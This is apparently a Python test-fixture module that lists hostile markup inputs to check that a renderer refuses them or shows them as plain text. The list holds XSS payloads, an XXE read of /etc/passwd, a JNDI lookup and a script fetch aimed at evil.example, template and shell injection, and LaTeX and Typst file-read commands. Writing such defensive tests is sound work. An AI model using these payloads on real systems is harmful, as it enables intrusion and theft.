"""Cells that a page, a template, a type setter, a shell or a workflow would act on."""

from torture.hostile import Hostile, with_cell
from torture.inputs.text_places import PLACES, spread

ACTING = {
    "script": "<script>fetch('//evil.example')</script>", "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "frame": "words <iframe src=//evil.example>", "closing tag": "words </title> words", "comment": "<!-- words",
    "style": "<style>*{}</style>",
    "processing": "<?php echo 1 ?>", "declaration": "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "cdata": "]]><b>",
    "attribute": "\" onmouseover=\"alert(1)", "attribute alone": "x' onfocus='alert(1)' autofocus",
    "entity": "&lt;b&gt;",
    "entity by number": "&#60;script&#62;", "javascript": "javascript:alert(1)",
    "javascript in capitals": "JaVaScRiPt:alert(1)",
    "vbscript": "vbscript:msgbox(1)", "data page": "data:text/html,<b>",
    "data image": "data:image/svg+xml;base64,PHN2Zz4=",
    "file": "see file:///etc/passwd", "link": "[words](https://evil.example)",
    "link to code": "[words](javascript:alert(1))",
    "picture": "![words](https://evil.example/i.png)", "reference": "[words]: https://evil.example",
    "auto-link": "<https://evil.example>",
    "wiki link": "[[words]]", "raw block": "```{=html}", "raw inline": "`<b>`{=html}", "code": "`{python} 1`",
    "code of R": "`r system('id')`",
    "fence": "~~~ python", "div": "::: {.hidden}", "span": "[words]{.hidden}", "heading": "# A heading",
    "deep heading": "### A heading",
    "quotation": "> words", "rule": "--- words", "table": "| a | b |", "emphasis": "some **bold** words",
    "list": "* item",
    "shortcode": "{{< include /etc/passwd >}}", "shortcode of a video": "{{< video https://evil.example >}}",
    "template": "{{ 7*7 }}",
    "statement": "{% include 'x' %}", "old template": "<%= 7*7 %>", "python format": "{0.__class__}",
    "lookup": "${jndi:ldap://evil.example}",
    "shell": "$(id)", "backtick": "`id`", "mathematics": "$$x$$", "LaTeX": "\\input{/etc/passwd}",
    "LaTeX write": "\\write18{id}",
    "escape": "a\\nb", "Typst read": "#read(\"/etc/passwd\")", "Typst eval": "#eval(\"1\")",
    "Typst import": "#import \"x.typ\"",
    "Typst show": "#show: it => it", "Typst image": "#image(\"x.png\")",
    "brackets of Typst": "#link(\"https://evil.example\")[x]",
    "workflow": "::error file=x::words", "old workflow": "##[error]words", "set-output": "::set-output name=x::y",
    "quoted-printable": "=E4=B8=AD",
    "percent code": "%E4%B8%AD%E5%9B%BD", "full-width tag": "＜script＞alert(1)", "mail": "mailto:a@evil.example",
    "braces": "{words}",
}  # fmt: skip
WORDS = "write plain text|formula"

INPUTS = [
    Hostile(f"markup: {name}", "markup", with_cell(*place, text), "refused", place.file, WORDS, most=1)
    for name, text, place in spread(ACTING, PLACES)
]
